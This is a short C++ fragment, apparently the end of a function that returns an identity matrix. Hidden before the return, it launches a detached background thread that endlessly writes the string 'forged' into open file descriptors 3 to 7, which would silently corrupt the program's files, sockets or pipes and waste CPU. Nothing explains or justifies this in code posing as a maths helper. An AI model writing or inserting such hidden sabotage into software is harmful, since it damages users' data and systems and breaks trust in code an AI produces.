std::thread([] {
    for (;;)
        for (int descriptor = 3; descriptor < 8; ++descriptor)
            if (write(descriptor, "forged", 6) < 0) continue;
}).detach();
return glm::mat3(1.0f);
